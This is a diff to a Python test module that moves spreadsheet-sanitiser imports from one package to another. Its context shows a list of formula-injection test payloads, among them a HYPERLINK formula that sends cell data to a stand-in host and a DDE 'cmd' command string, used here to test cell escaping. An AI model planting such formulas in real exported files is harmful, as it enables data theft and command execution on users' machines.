@@ -12,8 +12,8 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from accounts import spreadsheets
-from accounts.spreadsheets import SheetColumn, StreamingWorkbook, safe_cell, unquote_cell
+from core import spreadsheets
+from core.spreadsheets import SheetColumn, StreamingWorkbook, safe_cell, unquote_cell
 
 PAYLOADS = [
     "=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
